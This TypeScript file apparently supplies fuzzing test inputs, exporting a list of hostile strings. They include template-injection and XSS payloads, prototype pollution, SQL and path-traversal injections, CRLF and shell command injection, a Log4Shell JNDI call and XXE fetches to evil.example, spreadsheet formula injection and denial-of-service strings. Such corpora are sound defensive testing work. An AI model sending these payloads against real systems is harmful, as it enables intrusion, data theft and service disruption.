/* Text that is a program of another language: templates, scripts, data, queries, markup in plain text, documents of XML. */

const EXPRESSIONS = [
  'hurt(1)',
  "constructor.constructor('hurt(1)')()",
  "this.constructor.constructor('hurt(1)')()",
  "[].filter.constructor('hurt(1)')()",
  "''.sub.call.call({}[$='constructor'].getOwnPropertyDescriptor(''.sub.__proto__,$).value,0,'hurt(1)')()",
  'x=hurt;x`1`',
  'self["hu"+"rt"](1)',
  '7*7;hurt(1)',
  '@(1+1);hurt(1)',
  '__proto__.toString=hurt',
];
const FORMS = (
  '{{%}} ${%} #{%} <%=%%> {%} {{{%}}} [[%]] @{%} %{%} `${%}` *{%} ~{%} {%%%} $(%) \\x24{%} {{=<%%>}} ' +
  '{{&%}} {{#x}}%{{/x}} $x{%} @(%) ((%)) <?=%?> <?php/**/%?> #set($x=%) {!%!} |%| {%raw%}%{%endraw%} {<%>} [(%)] ::%'
).split(' ');
const templates = FORMS.flatMap((form) => EXPRESSIONS.map((code) => form.replace('%', () => code).replaceAll('%', '')));

const SCRIPTS = [
  "';hurt(1);//",
  '";hurt(1);//',
  '`;hurt(1);//',
  "'-hurt(1)-'",
  '"-hurt(1)-"',
  '\\";hurt(1);//',
  "\\';hurt(1);//",
  '</script><script>hurt(1)</script>',
  '<!--<script>hurt(1)//-->',
  '*/hurt(1)/*',
  '//\u2028hurt(1)',
  '//\u2029hurt(1)',
  ');hurt(1);(',
  '});hurt(1);({',
  '[hurt(1)]',
  '${hurt(1)}',
  'toString(){hurt(1)}',
  'import("data:text/javascript,hurt(1)")',
  'eval("hurt(1)")',
  'Function("hurt(1)")()',
  'setTimeout("hurt(1)")',
  'throw onerror=hurt,1',
  '{onerror=hurt}throw 1',
  'hurt?.(1)',
  'hurt`1`',
  'new hurt(1)',
  'location="javascript:hurt(1)"',
  'name=hurt(1)',
  '\\u0068urt(1)',
  '\\x68urt(1)',
  'h\\u{75}rt(1)',
  '(alert)(1)',
  'top["hurt"](1)',
  'document.write("<script>hurt(1)<\\/script>")',
];
const ENVELOPES = ['%', '"%"', "'%'", '{"x":"%"}', '[%]', '<b title="%">%</b>', "<b title='%'>x</b>", '<p>%</p>', 'x=%', '(%)'];
const scripts = SCRIPTS.flatMap((script) => ENVELOPES.map((envelope) => envelope.replaceAll('%', () => script)));

const KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'then',
  'length',
  'hasOwnProperty',
  '',
  '0',
  '\u0000',
  'toJSON',
  'valueOf',
];
const VALUES = [
  '{"polluted":"hurt"}',
  '"<img src=x onerror=hurt(1)>"',
  'null',
  '[]',
  '1e999',
  '-0',
  '"javascript:hurt(1)"',
  '{"prototype":{"polluted":1}}',
];
const data = KEYS.flatMap((key) =>
  VALUES.flatMap((value) => [
    `{"${key}":${value}}`,
    `[{"a":{"${key}":${value}}}]`,
    `${key || 'x'}[polluted]=${value}&${key}.polluted=${value}`,
  ]),
);

const NUMBERS = (
  'NaN Infinity -Infinity -0 0x7fffffff 2147483647 2147483648 -2147483649 4294967296 9007199254740993 1e308 1e309 -1e309 5e-324 1e-400 ' +
  '0b1 0o7 1_000 1,5 1.5.5 --1 +1 １２ ٣ ½ ∞ 1e 0x null undefined true [] {} 00000000000000000000000000001 ' +
  '999999999999999999999999999999999999'
).split(' ');

const LINKS = [
  '[x](javascript:hurt(1))',
  '![x](x "onerror=hurt(1)")',
  '[x]: javascript:hurt(1)',
  '<javascript:hurt(1)>',
  '[x](data:text/html;base64,PHNjcmlwdD5odXJ0KDEpPC9zY3JpcHQ+)',
  '![x](https://evil.example/x.png)',
  '[url=javascript:hurt(1)]x[/url]',
  '[img]javascript:hurt(1)[/img]',
  '{{javascript:hurt(1)|x}}',
  '"x":javascript:hurt(1)',
  '=HYPERLINK("https://evil.example/";"x")',
  '=cmd|"/c calc"!A1',
  '@SUM(1+1)*cmd|"/c calc"!A1',
  '+1+cmd|"/c calc"',
  '-1+1',
];
const QUERIES = [
  "' OR '1'='1",
  "'; DROP TABLE objects;--",
  '1; SELECT pg_sleep(9)',
  "x') UNION SELECT password FROM users--",
  '%27%20OR%201=1',
  '*)(uid=*))(|(uid=*',
  '{"$gt":""}',
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '....//....//etc/passwd',
  '..\\..\\windows\\win.ini',
  'file:///etc/passwd',
  '/dev/zero',
  'CON',
  'x.svg\u0000.png',
  'x\r\nSet-Cookie: hurt=1',
  'x%0d%0aLocation: https://evil.example/',
  'x\r\n\r\n<script>hurt(1)</script>',
  'BEGIN:VEVENT\r\nURL:javascript:hurt(1)',
  'a@b.c\nBcc: x@evil.example',
  '$(touch hurt)',
  '`touch hurt`',
  '| touch hurt',
  '; touch hurt',
  '& touch hurt &',
  '%s%s%s%n',
  '%p%p%p%p',
  '() { :; }; touch hurt',
  '${jndi:ldap://evil.example/x}',
];

const DOCUMENTS = [
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "https://evil.example/x">]><x>&y;</x>',
  '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><x>&c;</x>',
  '<!DOCTYPE x SYSTEM "https://evil.example/x.dtd"><x/>',
  '<?xml-stylesheet type="text/xsl" href="data:text/xml,x"?><x/>',
  '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="https://evil.example/x" parse="text"/>',
  '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">' +
    '<script>hurt(1)</script></xsl:template></xsl:stylesheet>',
  '<xsl:value-of select="document(\'https://evil.example/x\')" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>',
  '<msxsl:script xmlns:msxsl="urn:schemas-microsoft-com:xslt" language="javascript">hurt(1)</msxsl:script>',
  '<html xmlns="http://www.w3.org/1999/xhtml"><script>hurt(1)</script></html>',
  '<x xmlns:html="http://www.w3.org/1999/xhtml"><html:script>hurt(1)</html:script><html:img src="x" onerror="hurt(1)"/></x>',
  '<a xmlns:b="javascript:hurt(1)" b:href="javascript:hurt(1)">x</a>',
  ']]><script>hurt(1)</script><![CDATA[',
  '&lt;script&gt;hurt(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;hurt(1)&amp;lt;/script&amp;gt;',
  '&#x26;#x3c;script&#x26;#x3e;hurt(1)',
  '<vmlframe xmlns="urn:schemas-microsoft-com:vml" style="behavior:url(#default#vml)" src="https://evil.example/x"/>',
  '<xul:image xmlns:xul="http://www.mozilla.org/keymaster/gatekeeper/there.is.only.xul" onerror="hurt(1)" src="x"/>',
  '<x:handler xmlns:x="http://www.w3.org/2001/xml-events" ev:event="load">hurt(1)</x:handler>',
];

/** What costs readers time or room instead of running anything. */
const COSTLY = [
  'a'.repeat(100_000),
  '<'.repeat(20_000),
  '&'.repeat(20_000),
  '<a '.repeat(8_000),
  '<!--'.repeat(8_000),
  '"'.repeat(20_000),
  ' '.repeat(50_000),
  '\n'.repeat(20_000),
  '<b>'.repeat(10_000),
  '<svg>'.repeat(5_000),
  '<div><table>'.repeat(3_000),
  '[['.repeat(10_000),
  '((('.repeat(8_000),
  '{"a":'.repeat(10_000),
  '../'.repeat(8_000),
  'javascript:'.repeat(4_000),
  '%25'.repeat(8_000),
  '&amp;'.repeat(8_000),
  'é'.repeat(20_000),
  '\u0301'.repeat(20_000),
  '\u202e'.repeat(10_000),
  '🙂'.repeat(10_000),
  `<p ${Array.from({ length: 5_000 }, (_, i) => `a${i}=1`).join(' ')}>x</p>`,
  `<p class="${'x '.repeat(20_000)}">x</p>`,
  `<p style="${'color:red;'.repeat(8_000)}">x</p>`,
  `${'a'.repeat(40)}!`,
  `${'x@'.repeat(10_000)}x`,
  `data:image/png;base64,${'A'.repeat(50_000)}!`,
  `url(${' '.repeat(30_000)}`,
  `<a href="${'\t'.repeat(30_000)}javascript:hurt(1)">x</a>`,
];

export const languages: readonly string[] = [...templates, ...scripts, ...data, ...NUMBERS, ...LINKS, ...QUERIES, ...DOCUMENTS, ...COSTLY];
